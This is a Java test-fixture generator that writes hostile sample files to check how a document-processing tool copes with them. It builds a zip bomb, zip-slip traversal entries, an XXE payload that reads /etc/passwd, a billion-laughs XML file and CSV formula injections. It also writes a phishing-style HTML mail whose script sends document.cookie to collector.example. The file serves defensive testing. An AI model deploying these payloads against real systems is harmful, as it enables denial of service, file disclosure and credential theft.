package org.secondchair.home.sample;

import java.nio.charset.StandardCharsets;
import java.time.LocalDateTime;
import java.time.ZoneOffset;
import java.util.Arrays;
import java.util.Optional;
import org.secondchair.home.sample.files.Imprint;
import org.secondchair.home.sample.files.LockedZip;
import org.secondchair.home.sample.files.PdfFile;
import org.secondchair.home.sample.files.ScanFile;
import org.secondchair.home.sample.files.ZipBytes;
import org.secondchair.home.sample.manuscripts.Person;

/**
 * Files that mean harm, or are merely broken, as they turn up in real collections: all in the folder of a memory stick.
 * What lies inside those of them that are archives or nested mails is not listed among the facts.
 */
final class HostileFiles {
    private static final LocalDateTime TIME = LocalDateTime.of(2024, 11, 29, 17, 2);
    private static final SampleTruth NOTHING = SampleTruth.notResponsive("made to break parsers");

    private final Mailbox.Disk disk;
    private final Ledger ledger;
    private final Person owner;
    private final String folder;

    private HostileFiles(Mailbox.Disk disk, Ledger ledger, Person owner) {
        this.disk = disk;
        this.ledger = ledger;
        this.owner = owner;
        this.folder = owner.key() + "/memory-stick/";
    }

    static void write(Mailbox.Disk disk, Ledger ledger, Person owner, long seed) {
        new HostileFiles(disk, ledger, owner).all(seed);
    }

    private void all(long seed) {
        ExpectedOutcome processed = new ExpectedOutcome.Processed();
        file("backup_old.zip", bomb(), new ExpectedOutcome.Excepted("over-limit"));
        file(
                "photos.zip",
                slip(),
                new ExpectedOutcome.ProcessedOrExcepted(
                        "two entries climb out of the folder: nothing may be written outside, the third entry is fine"));
        file(
                "bin labels.docx",
                foreignEntity(),
                new ExpectedOutcome.ProcessedOrExcepted(
                        "names a file of the host as an entity: its content must appear nowhere"));
        file("catalogue.xml", laughs(), new ExpectedOutcome.ProcessedOrExcepted("entities that multiply to gigabytes"));
        file("F4 quick guide.pdf", cutShort(), new ExpectedOutcome.ProcessedOrExcepted("ends in the middle of a page"));
        byte[] locked = LockedZip.write("rota.txt", text("Early shift: see board.\n"), "halyard-71", seed);
        file("payroll_extract.zip", locked, new ExpectedOutcome.Excepted("locked"));
        byte[] picture =
                ScanFile.write("png", "# Parking permit\n\nBay 14, Harbour side. Keep behind the windscreen.", seed);
        file("parking permit.docx", picture, processed);
        file("supplier_prices.csv", text(formulas()), processed);
        file("untitled.docx", new byte[0], new ExpectedOutcome.Excepted("empty"));
        mail("broken headers.eml", brokenHeaders(), Optional.empty(), processed);
        mail(
                "FW FW FW FW.eml",
                matryoshka(),
                Optional.of("<deep-0@dormouse.example>"),
                new ExpectedOutcome.ProcessedOrExcepted("sixty mails inside each other"));
        mail("You have won.eml", loudHtml(), Optional.of("<prize-7711@winnings.example>"), processed);
    }

    private void file(String name, byte[] bytes, ExpectedOutcome outcome) {
        item(name, bytes, SampleItem.Kind.FILE, Optional.empty(), outcome);
    }

    private void mail(String name, byte[] bytes, Optional<String> messageId, ExpectedOutcome outcome) {
        item(name, bytes, SampleItem.Kind.MAIL, messageId, outcome);
    }

    private void item(
            String name, byte[] bytes, SampleItem.Kind kind, Optional<String> messageId, ExpectedOutcome outcome) {
        String path = folder + name;
        disk.write(path, bytes);
        ledger.add(new SampleItem(
                path,
                "hostile",
                owner.key(),
                kind,
                name,
                messageId,
                Ledger.sha256(bytes),
                bytes.length,
                Optional.empty(),
                path,
                NOTHING,
                outcome));
    }

    private static byte[] text(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** Three layers: some kilobytes that unpack to four hundred megabytes, many times what any limit of ratio allows. */
    private static byte[] bomb() {
        byte[] inner = new ZipBytes(TIME).add("0.bin", new byte[10_000_000]).toBytes();
        for (int parts : new int[] {5, 8}) {
            ZipBytes outer = new ZipBytes(TIME);
            for (int i = 0; i < parts; i++) {
                outer.add("part" + i + ".zip", inner);
            }
            inner = outer.toBytes();
        }
        return inner;
    }

    private static byte[] slip() {
        return new ZipBytes(TIME)
                .add("../../../../../../tmp/second-chair-was-here.txt", "climbed out\n")
                .add("..\\..\\..\\startup.bat", "rem climbed out\n")
                .add("captions.txt", "1: loading bay, 2: the new pallet wrapper, 3: same from the left\n")
                .toBytes();
    }

    private static byte[] foreignEntity() {
        String document = """
                <?xml version="1.0" encoding="UTF-8"?>
                <!DOCTYPE w:document [<!ENTITY host SYSTEM "file:///etc/passwd">]>
                <w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>\
                <w:t>Bin labels, row C: &host;</w:t></w:r></w:p></w:body></w:document>""";
        String types = """
                <?xml version="1.0" encoding="UTF-8"?>
                <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" \
                ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override \
                PartName="/word/document.xml" \
                ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>""";
        String relations = """
                <?xml version="1.0" encoding="UTF-8"?>
                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" \
                Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" \
                Target="word/document.xml"/></Relationships>""";
        return new ZipBytes(TIME)
                .add("[Content_Types].xml", types)
                .add("_rels/.rels", relations)
                .add("word/document.xml", document)
                .toBytes();
    }

    private static byte[] laughs() {
        StringBuilder xml = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE list [\n<!ENTITY e0 \"ha\">\n");
        for (int level = 1; level <= 9; level++) {
            xml.append("<!ENTITY e%d \"%s\">\n".formatted(level, ("&e" + (level - 1) + ";").repeat(10)));
        }
        return text(xml.append("]>\n<list>&e9;</list>\n").toString());
    }

    private static byte[] cutShort() {
        byte[] whole = PdfFile.write(
                new Imprint("F4 quick guide", "Kellmoor Instruments", TIME.atZone(ZoneOffset.UTC)),
                "# Fathom 4 quick guide\n\nHold the button for three seconds until the green light blinks twice.");
        return Arrays.copyOf(whole, whole.length * 6 / 10);
    }

    private static String formulas() {
        return """
                supplier,part,price,remark
                Northgate Fixings,M3x8,0.014,"=HYPERLINK(""http://collector.example/?q=""&A2,""details"")"
                Pell & Daughter,gasket 22,0.31,"+cmd|' /C calc'!A0"
                Vantry Plastics,lid,0.88,"@SUM(1+9)*cmd|' /C calc'!A0"
                Vantry Plastics,clip,0.12,"-2+3+cmd|' /C calc'!A0"
                """;
    }

    private static byte[] brokenHeaders() {
        String mail = """
                From: "Pell, Ada <ada.pell@northgate.example>
                To: undisclosed;;
                Date: Thirsday, 31 Feb 2024 27:61 GMT
                Subject: =?utf-8?B?w5xiZXI=_=?= gasket \u00e4\u00f6
                Content-Type: multipart/mixed; boundary=
                Content-Type: text/plain; charset=klingon
                Content-Transfer-Encoding: base65

                The gaskets left here on Tuesday, tracking to follow.
                --
                Ada
                """;
        return mail.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] matryoshka() {
        String mail = "From: d@dormouse.example\r\nSubject: the one in the middle\r\n\r\nNothing to see.\r\n";
        for (int level = 60; level >= 0; level--) {
            mail = "Message-ID: <deep-" + level + "@dormouse.example>\r\nDate: Mon, 4 Nov 2024 09:00:00 +0000\r\n"
                    + "From: d@dormouse.example\r\nTo: t.wieczorek@kellmoor.example\r\nSubject: "
                    + (level == 0 ? "FW: FW: FW: FW: the funny one" : "FW: the funny one") + "\r\nMIME-Version: 1.0\r\n"
                    + "Content-Type: multipart/mixed; boundary=b" + level + "\r\n\r\n--b" + level
                    + "\r\nContent-Type: message/rfc822\r\n\r\n" + mail + "\r\n--b" + level + "--\r\n";
        }
        return text(mail);
    }

    private static byte[] loudHtml() {
        String mail = """
                Message-ID: <prize-7711@winnings.example>
                Date: Tue, 12 Nov 2024 03:14:15 +0000
                From: Prize Desk <desk@winnings.example>
                To: t.wieczorek@kellmoor.example
                Subject: You have won a garden shed
                MIME-Version: 1.0
                Content-Type: text/html; charset=utf-8
                Content-Transfer-Encoding: 8bit

                <html><head><link rel="stylesheet" href="http://styles.winnings.example/remote.css">
                <meta http-equiv="refresh" content="0;url=http://winnings.example/go">
                <script>document.title = 'script ran'; fetch('http://collector.example/' + document.cookie)</script></head>
                <body onload="document.title = 'handler ran'" background="http://pixel.winnings.example/bg.png">
                <p>Dear Tomasz, your shed is waiting.</p>
                <img src="http://pixel.winnings.example/open.gif?id=7711" width="1" height="1">
                <a href="javascript:alert(1)">Claim it here</a>
                <form action="http://winnings.example/login"><input name="password" type="password"></form>
                <iframe src="http://winnings.example/frame"></iframe>
                <svg onload="alert(2)"><use href="http://winnings.example/x.svg#y"></use></svg>
                <p style="background:url(http://pixel.winnings.example/css.png)">See you soon.</p></body></html>
                """;
        return text(mail.replace("\n", "\r\n"));
    }
}
